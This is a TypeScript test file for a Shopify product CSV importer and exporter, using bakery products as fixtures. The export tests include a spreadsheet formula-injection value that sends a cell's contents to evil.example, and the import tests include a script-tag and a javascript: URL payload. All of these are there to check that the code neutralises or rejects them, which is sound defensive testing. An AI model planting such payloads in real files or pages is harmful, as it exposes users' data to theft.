import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { type ExportableProduct, type ImportedProduct, parseProductCsv, productsToCsv } from "./product-csv";

const FIXTURE = readFileSync(new URL("../../../tests/fixtures/shopify-products.csv", import.meta.url), "utf8");
const CDN = "https://cdn.shopify.com/s/files/1/0000/0001/products/";

const SHOPIFY_HEADER =
  "Handle,Title,Body (HTML),Vendor,Product Category,Type,Tags,Published,Option1 Name,Option1 Value,Option2 Name," +
  "Option2 Value,Option3 Name,Option3 Value,Variant SKU,Variant Grams,Variant Inventory Tracker,Variant Inventory Qty," +
  "Variant Inventory Policy,Variant Fulfillment Service,Variant Price,Variant Compare At Price,Variant Requires Shipping," +
  "Variant Taxable,Variant Barcode,Image Src,Image Position,Image Alt Text,Gift Card,SEO Title,SEO Description," +
  "Variant Image,Variant Weight Unit,Cost per item,Status";

/** A CSV with just the columns a case needs, written the way a spreadsheet would. */
function csv(rows: Array<Record<string, string>>): string {
  const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  return stringify(
    rows.map((row) => columns.map((column) => row[column] ?? "")),
    { header: true, columns },
  );
}

/** The first row of a one-variant product, with Shopify's "no options" marker. */
const simple = (handle: string, overrides: Record<string, string> = {}): Record<string, string> => ({
  Handle: handle,
  Title: "Rye Loaf",
  "Option1 Name": "Title",
  "Option1 Value": "Default Title",
  "Variant Price": "5.00",
  Status: "active",
  ...overrides,
});

const markdown = new MarkdownIt();

/** What the catalogue would hand the exporter: the description goes back out as HTML. */
function exportable(product: ImportedProduct): ExportableProduct {
  const { descriptionMarkdown, row: _row, ...rest } = product;
  return { ...rest, descriptionHtml: markdown.render(descriptionMarkdown) };
}

const withoutRow = (products: ImportedProduct[]) => products.map(({ row: _row, ...rest }) => rest);

/** The exported file's cells, by column name. */
function cells(text: string): Array<Record<string, string>> {
  return parse(text, { columns: true }) as Array<Record<string, string>>;
}

describe("parseProductCsv, on a Shopify export", () => {
  const result = parseProductCsv(FIXTURE, "EUR");

  it("reads every product, on the line of its first row, ignoring columns Atrium has no use for", () => {
    expect(result.problems).toEqual([]);
    expect(result.products.map((p) => [p.handle, p.row, p.status])).toEqual([
      ["country-sourdough", 2, "active"],
      ["butter-croissants", 5, "active"],
      ["celebration-cake", 12, "active"],
      ["christmas-stollen", 17, "draft"],
    ]);
  });

  it("reads a product without options, with its extra image row", () => {
    expect(result.products[0]).toEqual({
      handle: "country-sourdough",
      title: "Country Sourdough",
      descriptionMarkdown:
        "Our **country sourdough** is naturally leavened and fermented for 36 hours, then baked on stone.\n\n" +
        "Crackling crust, open crumb; keeps for four days in a linen bag.",
      vendor: "Harbor Bakery",
      productType: "Bread",
      tags: ["bread", "sourdough", "vegan"],
      status: "active",
      seoTitle: "Country Sourdough | Harbor Bakery",
      seoDescription: "Naturally leavened sourdough, fermented for 36 hours and baked on stone.",
      options: [],
      variants: [
        {
          options: [],
          sku: "BRD-SOUR-800",
          price: 650,
          compareAtPrice: null,
          weightGrams: 800,
          inventoryTracked: true,
          inventoryQuantity: 24,
          continueSelling: false,
          requiresShipping: true,
          taxable: true,
          barcode: "2000000000015",
          imageSrc: null,
        },
      ],
      images: [
        { src: `${CDN}sourdough.jpg`, position: 1, alt: "Country sourdough on a wooden board" },
        { src: `${CDN}sourdough-crumb.jpg`, position: 2, alt: "The open crumb, sliced" },
      ],
      row: 2,
    } satisfies ImportedProduct);
  });

  it("reads a product with one option of three values, its list turned into Markdown", () => {
    const croissants = result.products[1];
    expect(croissants?.descriptionMarkdown).toBe(
      "Laminated by hand with **French butter**: 27 layers, baked every morning at 6.\n\n" +
        "-   Box of 4: breakfast for two\n-   Box of 12: the whole office",
    );
    expect(croissants?.options).toEqual([{ name: "Size", values: ["Box of 4", "Box of 6", "Box of 12"] }]);
    expect(
      croissants?.variants.map((v) => [
        v.options,
        v.sku,
        v.price,
        v.compareAtPrice,
        v.inventoryQuantity,
        v.continueSelling,
      ]),
    ).toEqual([
      [["Box of 4"], "VIE-CRO-4", 800, null, 10, false],
      [["Box of 6"], "VIE-CRO-6", 1150, null, 8, false],
      [["Box of 12"], "VIE-CRO-12", 2100, 2400, 0, true],
    ]);
    expect(croissants?.variants[2]?.imageSrc).toBe(`${CDN}croissants-box.jpg`);
  });

  it("reads a product with two options (2 × 2), a comma in its quoted title, made to order and collected", () => {
    const variant = (options: string[], sku: string, price: number, weightGrams: number, image: string) => ({
      options,
      sku,
      price,
      compareAtPrice: null,
      weightGrams,
      inventoryTracked: false,
      inventoryQuantity: 0,
      continueSelling: false,
      requiresShipping: false,
      taxable: true,
      barcode: null,
      imageSrc: `${CDN}${image}`,
    });
    expect(result.products[2]).toEqual({
      handle: "celebration-cake",
      title: "Celebration Cake, Made to Order",
      descriptionMarkdown:
        "Three layers of sponge, whipped ganache and seasonal fruit.\n\n" +
        "**Order 48 hours ahead.** Collection from the shop only.",
      vendor: "Harbor Bakery",
      productType: "Cake",
      tags: ["cake", "celebration", "made to order"],
      status: "active",
      seoTitle: "Celebration cakes, made to order",
      seoDescription: "Order 48 hours ahead, collect from the shop.",
      options: [
        { name: "Size", values: ["6 inch", "8 inch"] },
        { name: "Flavour", values: ["Chocolate", "Lemon & Poppy Seed"] },
      ],
      variants: [
        variant(["6 inch", "Chocolate"], "CAK-6-CHOC", 3200, 1200, "cake-chocolate.jpg"),
        variant(["6 inch", "Lemon & Poppy Seed"], "CAK-6-LEM", 3200, 1200, "cake-lemon.jpg"),
        variant(["8 inch", "Chocolate"], "CAK-8-CHOC", 4500, 2000, "cake-chocolate.jpg"),
        variant(["8 inch", "Lemon & Poppy Seed"], "CAK-8-LEM", 4500, 2000, "cake-lemon.jpg"),
      ],
      images: [
        { src: `${CDN}cake-chocolate.jpg`, position: 1, alt: "Chocolate celebration cake, with berries" },
        { src: `${CDN}cake-lemon.jpg`, position: 2, alt: "Lemon and poppy seed cake" },
      ],
      row: 12,
    } satisfies ImportedProduct);
  });
});

describe("productsToCsv", () => {
  const imported = parseProductCsv(FIXTURE, "EUR").products;

  it("round-trips: what it writes reads back as the same products, and writes the same file again", () => {
    const written = productsToCsv(imported.map(exportable), "EUR");
    const again = parseProductCsv(written, "EUR");
    expect(again.problems).toEqual([]);
    expect(withoutRow(again.products)).toEqual(withoutRow(imported));
    expect(productsToCsv(again.products.map(exportable), "EUR")).toBe(written);
  });

  it("writes Shopify's header and layout: a row per variant, extra rows for the images left over", () => {
    const written = productsToCsv(imported.map(exportable), "EUR");
    expect(written.split("\n")[0]).toBe(SHOPIFY_HEADER);
    const rows = cells(written);
    expect(rows.map((r) => [r.Handle, r["Option1 Value"], r["Image Position"]])).toEqual([
      ["country-sourdough", "Default Title", "1"],
      ["country-sourdough", "", "2"],
      ["butter-croissants", "Box of 4", "1"],
      ["butter-croissants", "Box of 6", "2"],
      ["butter-croissants", "Box of 12", ""],
      ["celebration-cake", "6 inch", "1"],
      ["celebration-cake", "6 inch", "2"],
      ["celebration-cake", "8 inch", ""],
      ["celebration-cake", "8 inch", ""],
      ["christmas-stollen", "Default Title", "1"],
    ]);
    const [sourdough, crumb] = rows;
    expect(sourdough).toMatchObject({
      Title: "Country Sourdough",
      "Option1 Name": "Title",
      Published: "TRUE",
      Status: "active",
      "Variant Price": "6.50",
      "Variant Compare At Price": "",
      "Variant Inventory Tracker": "shopify",
      "Variant Inventory Policy": "deny",
      "Variant Requires Shipping": "TRUE",
      "Variant Taxable": "TRUE",
      "Gift Card": "FALSE",
    });
    // An image row carries the handle and the image, nothing a re-import would read as a variant.
    expect(Object.entries(crumb ?? {}).filter(([, value]) => value !== "")).toEqual([
      ["Handle", "country-sourdough"],
      ["Image Src", `${CDN}sourdough-crumb.jpg`],
      ["Image Position", "2"],
      ["Image Alt Text", "The open crumb, sliced"],
    ]);
    expect(rows[9]).toMatchObject({ Published: "FALSE", Status: "draft", "Variant Compare At Price": "21.00" });
    expect(rows[5]).toMatchObject({ "Variant Requires Shipping": "FALSE", "Option2 Name": "Flavour" });
  });

  it("writes amounts as plain decimals with the currency's own digits", () => {
    const product = exportable(parseProductCsv(csv([simple("rye")]), "EUR").products[0] as ImportedProduct);
    const price = (currency: string, minor: number, compareAt: number | null = null) =>
      cells(
        productsToCsv(
          [{ ...product, variants: product.variants.map((v) => ({ ...v, price: minor, compareAtPrice: compareAt })) }],
          currency,
        ),
      ).map((r) => [r["Variant Price"], r["Variant Compare At Price"]])[0];
    expect(price("EUR", 1250, 1500)).toEqual(["12.50", "15.00"]);
    expect(price("EUR", 5)).toEqual(["0.05", ""]);
    expect(price("JPY", 1000)).toEqual(["1000", ""]);
    expect(price("KWD", 12500)).toEqual(["12.500", ""]);
  });

  it("keeps a cell a spreadsheet would run as a formula as text, and reads it back without the apostrophe", () => {
    const [rye] = parseProductCsv(csv([simple("rye")]), "EUR").products;
    const hostile: ExportableProduct = {
      ...exportable(rye as ImportedProduct),
      title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      vendor: "@SUM(1+1)",
      productType: "+Bread",
      tags: ["-sale", "rye"],
      seoTitle: "\tTabbed",
      variants: [{ ...(rye as ImportedProduct).variants[0]!, sku: "-RYE-1", barcode: "=1+2" }],
    };
    const written = productsToCsv([hostile], "EUR");
    const [row] = cells(written);
    expect(row).toMatchObject({
      Title: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      Vendor: "'@SUM(1+1)",
      Type: "'+Bread",
      Tags: "'-sale, rye",
      "SEO Title": "'\tTabbed",
      "Variant SKU": "'-RYE-1",
      "Variant Barcode": "'=1+2",
      "Variant Price": "5.00",
    });
    const [back] = parseProductCsv(written, "EUR").products;
    expect(back).toMatchObject({
      title: hostile.title,
      vendor: "@SUM(1+1)",
      productType: "+Bread",
      tags: ["-sale", "rye"],
      seoTitle: "Tabbed",
    });
    expect(back?.variants[0]).toMatchObject({ sku: "-RYE-1", barcode: "=1+2" });
  });
});

describe("parseProductCsv, on other shapes of the file", () => {
  it("reads an older export without Status: published means active, anything else draft", () => {
    const old = (handle: string, published: string) => {
      const { Status: _status, ...row } = simple(handle, { Published: published });
      return row;
    };
    const text = csv([old("rye", "TRUE"), old("spelt", "FALSE"), old("oat", "")]);
    expect(text).not.toMatch(/status/i);
    const { products, problems } = parseProductCsv(text, "EUR");
    expect(problems).toEqual([]);
    expect(products.map((p) => [p.handle, p.status])).toEqual([
      ["rye", "active"],
      ["spelt", "draft"],
      ["oat", "draft"],
    ]);
  });

  it("reads a newer export without Variant Inventory Qty (0) and ignores columns it does not know", () => {
    const { products, problems } = parseProductCsv(
      csv([
        simple("rye", {
          "Variant Inventory Tracker": "shopify",
          "Variant Tax Code": "P0000000",
          "Google Shopping / Gender": "unisex",
          "Inventory Available: Harbor Street": "12",
          "Option4 Name": "",
          Mystery: "=1+1",
        }),
      ]),
      "EUR",
    );
    expect(problems).toEqual([]);
    expect(products[0]?.variants[0]).toMatchObject({ inventoryTracked: true, inventoryQuantity: 0 });
  });

  it("tolerates a byte-order mark, Windows line ends, and headers in another case or with spaces", () => {
    const text =
      "\uFEFF handle , TITLE,body (html),  Option1 Name,Option1 Value,variant price,STATUS\r\n" +
      'rye,Rye Loaf,"<p>Dark</p>\r\n<p>Dense</p>",Title,Default Title,4.20,Active\r\n' +
      "spelt,Spelt Loaf,,Title,Default Title,4.80,draft\r\n";
    const { products, problems } = parseProductCsv(text, "EUR");
    expect(problems).toEqual([]);
    expect(
      products.map((p) => [p.handle, p.title, p.descriptionMarkdown, p.variants[0]?.price, p.status, p.row]),
    ).toEqual([
      ["rye", "Rye Loaf", "Dark\n\nDense", 420, "active", 2],
      ["spelt", "Spelt Loaf", "", 480, "draft", 4],
    ]);
  });

  it("reads Option1 Title / Default Title as a product without options, with a single variant", () => {
    const ok = parseProductCsv(csv([simple("rye")]), "EUR");
    expect(ok.products[0]?.options).toEqual([]);
    expect(ok.products[0]?.variants.map((v) => v.options)).toEqual([[]]);

    const twice = parseProductCsv(
      csv([simple("rye"), { Handle: "rye", "Option1 Value": "Default Title", "Variant Price": "6.00" }]),
      "EUR",
    );
    expect(twice.products).toEqual([]);
    expect(twice.problems).toEqual([
      {
        row: 3,
        column: null,
        message: "“rye” has no options, so it has a single variant; this row would be a second one",
      },
    ]);

    // A real option may be called "Title"; only the marker value makes it Shopify's "no options".
    const real = parseProductCsv(
      csv([
        simple("card", { "Option1 Value": "Happy Birthday" }),
        { Handle: "card", "Option1 Value": "Congratulations", "Variant Price": "5.00" },
      ]),
      "EUR",
    );
    expect(real.problems).toEqual([]);
    expect(real.products[0]?.options).toEqual([{ name: "Title", values: ["Happy Birthday", "Congratulations"] }]);
  });

  it("accepts whole JPY amounts, and Shopify's .00 on them", () => {
    const { products, problems } = parseProductCsv(
      csv([simple("rye", { "Variant Price": "1000" }), simple("spelt", { "Variant Price": "1200.00" })]),
      "JPY",
    );
    expect(problems).toEqual([]);
    expect(products.map((p) => p.variants[0]?.price)).toEqual([1000, 1200]);
  });

  it("rounds decimal grams, as newer exports write them", () => {
    const { products } = parseProductCsv(csv([simple("rye", { "Variant Grams": "453.5924" })]), "EUR");
    expect(products[0]?.variants[0]?.weightGrams).toBe(454);
  });

  it("keeps only one of each tag, in its first spelling, and the images sorted by position, each once", () => {
    const { products, problems } = parseProductCsv(
      csv([
        simple("rye", {
          Tags: " Vegan, rye ,,vegan, Rye Bread",
          "Image Src": `${CDN}b.jpg`,
          "Image Position": "3",
          "Image Alt Text": "B",
        }),
        { Handle: "rye", "Image Src": `${CDN}a.jpg`, "Image Position": "1", "Image Alt Text": "A" },
        { Handle: "rye", "Image Src": `${CDN}b.jpg`, "Image Position": "2", "Image Alt Text": "B again" },
        { Handle: "rye", "Image Src": `${CDN}c.jpg`, "Image Position": "", "Image Alt Text": "" },
      ]),
      "EUR",
    );
    expect(problems).toEqual([]);
    expect(products[0]?.tags).toEqual(["Vegan", "rye", "Rye Bread"]);
    expect(products[0]?.images).toEqual([
      { src: `${CDN}a.jpg`, position: 1, alt: "A" },
      { src: `${CDN}b.jpg`, position: 2, alt: "B" },
      { src: `${CDN}c.jpg`, position: 3, alt: "" },
    ]);
  });

  it("takes no script or style from a description, content included", () => {
    const { products } = parseProductCsv(
      csv([simple("rye", { "Body (HTML)": "<p>Dark rye</p><script>alert(1)</script><style>p{}</style>" })]),
      "EUR",
    );
    expect(products[0]?.descriptionMarkdown).toBe("Dark rye");
  });

  it("skips rows of empty cells, as a spreadsheet leaves after clearing a row", () => {
    const { products, problems } = parseProductCsv(`${csv([simple("rye")])},,,,,\n , ,,,,\n`, "EUR");
    expect(problems).toEqual([]);
    expect(products).toHaveLength(1);
  });
});

describe("parseProductCsv refuses, product by product", () => {
  /** Each case's product is refused with exactly this problem; the good product beside it still imports. */
  const refusals: Array<
    [string, Array<Record<string, string>>, string, { row: number; column: string | null; message: string }]
  > = [
    [
      "a price that is not an amount",
      [simple("bad", { "Variant Price": "abc" })],
      "EUR",
      { row: 2, column: "Variant Price", message: "Variant Price “abc” is not an amount in EUR" },
    ],
    [
      "a price with a thousands separator",
      [simple("bad", { "Variant Price": "1,250.00" })],
      "EUR",
      { row: 2, column: "Variant Price", message: "Variant Price “1,250.00” is not an amount in EUR" },
    ],
    [
      "an empty price",
      [simple("bad", { "Variant Price": "", "Variant SKU": "X-1" })],
      "EUR",
      { row: 2, column: "Variant Price", message: "Variant Price is empty; enter an amount in EUR" },
    ],
    [
      "more decimals than JPY allows",
      [simple("bad", { "Variant Price": "1000.50" })],
      "JPY",
      {
        row: 2,
        column: "Variant Price",
        message: "Variant Price “1000.50” has more decimals than JPY has (none); correct the amount",
      },
    ],
    [
      "a compare-at price with more decimals than EUR allows",
      [simple("bad", { "Variant Compare At Price": "9.995" })],
      "EUR",
      {
        row: 2,
        column: "Variant Compare At Price",
        message: "Variant Compare At Price “9.995” has more decimals than EUR has (at most 2); correct the amount",
      },
    ],
    [
      "two variants with the same options",
      [
        simple("bad", {
          "Option1 Name": "Size",
          "Option1 Value": "Small",
          "Option2 Name": "Flavour",
          "Option2 Value": "Plain",
        }),
        { Handle: "bad", "Option1 Value": "Large", "Option2 Value": "Plain", "Variant Price": "9.00" },
        { Handle: "bad", "Option1 Value": "Small", "Option2 Value": "Plain", "Variant Price": "6.00" },
      ],
      "EUR",
      {
        row: 4,
        column: "Option1 Value",
        message:
          "Another variant already has Size “Small”, Flavour “Plain”; each variant needs its own combination of options",
      },
    ],
    [
      "a variant without a value for one of the options",
      [
        simple("bad", {
          "Option1 Name": "Size",
          "Option1 Value": "Small",
          "Option2 Name": "Flavour",
          "Option2 Value": "Plain",
        }),
        { Handle: "bad", "Option1 Value": "Large", "Variant Price": "9.00" },
      ],
      "EUR",
      { row: 3, column: "Option2 Value", message: "Option2 Value is empty; every variant needs a Flavour" },
    ],
    [
      "a negative stock",
      [simple("bad", { "Variant Inventory Qty": "-3" })],
      "EUR",
      { row: 2, column: "Variant Inventory Qty", message: "Variant Inventory Qty “-3” is negative; enter 0 or more" },
    ],
    [
      "a stock that is not a whole number",
      [simple("bad", { "Variant Inventory Qty": "2.5" })],
      "EUR",
      { row: 2, column: "Variant Inventory Qty", message: "Variant Inventory Qty “2.5” is not a whole number" },
    ],
    [
      "a fourth option",
      [
        simple("bad", {
          "Option1 Name": "Size",
          "Option1 Value": "Small",
          "Option4 Name": "Colour",
          "Option4 Value": "Red",
        }),
      ],
      "EUR",
      {
        row: 2,
        column: "Option4 Name",
        message: "Option4 Name is filled in, but an Atrium product has at most 3 options",
      },
    ],
    [
      "a missing title",
      [simple("bad", { Title: "" })],
      "EUR",
      { row: 2, column: "Title", message: "Title is empty: the first row of “bad” needs one" },
    ],
    [
      "a title over 200 characters",
      [simple("bad", { Title: "x".repeat(201) })],
      "EUR",
      { row: 2, column: "Title", message: "Title is 201 characters long; Atrium keeps at most 200" },
    ],
    [
      "a handle that is not a lower-case slug",
      [simple("Rye Loaf")],
      "EUR",
      {
        row: 2,
        column: "Handle",
        message: "Handle “Rye Loaf” can only have lower-case letters, digits and hyphens (-), such as “sourdough-loaf”",
      },
    ],
    [
      "a handle over 100 characters",
      [simple("a".repeat(101))],
      "EUR",
      { row: 2, column: "Handle", message: "Handle is 101 characters long; Atrium keeps at most 100" },
    ],
    [
      "an image that is not a web address, even on an image-only row",
      [simple("bad"), { Handle: "bad", "Image Src": "javascript:alert(1)", "Image Position": "2" }],
      "EUR",
      {
        row: 3,
        column: "Image Src",
        message: "Image Src “javascript:alert(1)” is not a web address (http:// or https://)",
      },
    ],
    [
      "a status Shopify does not have",
      [simple("bad", { Status: "live" })],
      "EUR",
      { row: 2, column: "Status", message: "Status “live” should be active, draft or archived" },
    ],
    [
      "a yes/no that is neither",
      [simple("bad", { "Variant Taxable": "maybe" })],
      "EUR",
      { row: 2, column: "Variant Taxable", message: "Variant Taxable “maybe” should be TRUE or FALSE" },
    ],
    [
      "more than 30 tags",
      [simple("bad", { Tags: Array.from({ length: 31 }, (_, i) => `tag${i}`).join(", ") })],
      "EUR",
      { row: 2, column: "Tags", message: "Tags lists 31 tags; Atrium keeps at most 30 per product" },
    ],
  ];

  it.each(refusals)("refuses %s", (_, rows, currency, problem) => {
    const good = simple("good", { "Variant Price": "7" });
    const { products, problems } = parseProductCsv(csv([...rows, good]), currency);
    expect(problems).toEqual([problem]);
    expect(products.map((p) => p.handle)).toEqual(["good"]);
  });

  it("refuses more than 100 variants", () => {
    const rows = Array.from({ length: 101 }, (_, i) =>
      i === 0
        ? simple("bad", { "Option1 Name": "Size", "Option1 Value": "1" })
        : { Handle: "bad", "Option1 Value": String(i + 1), "Variant Price": "1.00" },
    );
    const { products, problems } = parseProductCsv(csv(rows), "EUR");
    expect(products).toEqual([]);
    expect(problems).toEqual([{ row: 2, column: null, message: "“bad” has 101 variants; Atrium takes at most 100" }]);
  });

  it("lists every problem of a product, in line order, and leaves the rows without a handle out", () => {
    const { products, problems } = parseProductCsv(
      csv([
        simple("bad", { "Variant Price": "abc", "Variant Inventory Qty": "-1" }),
        { Handle: "", Title: "Orphan", "Variant Price": "3.00" },
        simple("good"),
      ]),
      "EUR",
    );
    expect(products.map((p) => p.handle)).toEqual(["good"]);
    expect(problems).toEqual([
      { row: 2, column: "Variant Price", message: "Variant Price “abc” is not an amount in EUR" },
      { row: 2, column: "Variant Inventory Qty", message: "Variant Inventory Qty “-1” is negative; enter 0 or more" },
      {
        row: 3,
        column: "Handle",
        message: "Handle is empty; every row needs the handle of the product it belongs to",
      },
    ]);
  });

  it("counts lines as a spreadsheet does, past cells that hold line breaks (LF or CR LF)", () => {
    for (const eol of ["\n", "\r\n"]) {
      const text = [
        "Handle,Title,Body (HTML),Option1 Name,Option1 Value,Variant Price",
        `rye,Rye,"<p>One</p>${eol}<p>Two</p>${eol}<p>Three</p>",Title,Default Title,4.00`,
        "",
        "spelt,Spelt,,Title,Default Title,abc",
      ].join(eol);
      expect(parseProductCsv(text, "EUR").problems, JSON.stringify(eol)).toEqual([
        { row: 6, column: "Variant Price", message: "Variant Price “abc” is not an amount in EUR" },
      ]);
    }
  });
});

describe("parseProductCsv refuses the whole file", () => {
  it("with an unclosed quote: one problem on the line where the row starts, no exception", () => {
    const text = `${SHOPIFY_HEADER}\nrye,Rye,,,,,,TRUE\n\nspelt,"Spelt,,,,,,TRUE\noat,Oat\n`;
    expect(parseProductCsv(text, "EUR")).toEqual({
      products: [],
      problems: [
        {
          row: 4,
          column: null,
          message: `The row on line 4 opens a quote (") that is never closed, so the file can't be read from there`,
        },
      ],
    });
  });

  it("with text after a closing quote", () => {
    const text = `${SHOPIFY_HEADER}\nrye,"Rye" Loaf,,,,,,TRUE\n`;
    expect(parseProductCsv(text, "EUR")).toEqual({
      products: [],
      problems: [
        {
          row: 2,
          column: null,
          message: `Line 2 has text right after a closing quote ("); a quote inside a cell must be written twice ("")`,
        },
      ],
    });
  });

  it("with more rows than the limit", () => {
    const text = csv([simple("rye"), simple("spelt"), simple("oat")]);
    expect(parseProductCsv(text, "EUR", { maxRows: 3 }).products).toHaveLength(3);
    expect(parseProductCsv(text, "EUR", { maxRows: 2 })).toEqual({
      products: [],
      problems: [
        {
          row: 4,
          column: null,
          message: "The file has 3 rows; import at most 2 at a time by splitting it into smaller files",
        },
      ],
    });
  });

  it("without the columns of a product CSV, or empty", () => {
    expect(parseProductCsv("Email,Name\na@example.com,Ann\n", "EUR")).toEqual({
      products: [],
      problems: [
        {
          row: 1,
          column: "Handle",
          message:
            "The file has no “Handle”, “Title”, “Variant Price” columns: it doesn't look like a Shopify product CSV " +
            "(in Shopify: Products → Export)",
        },
      ],
    });
    expect(parseProductCsv("\uFEFF\n\n", "EUR").problems).toEqual([
      { row: 1, column: null, message: "The file is empty" },
    ]);
    expect(parseProductCsv(`${SHOPIFY_HEADER}\n`, "EUR")).toEqual({ products: [], problems: [] });
  });
});
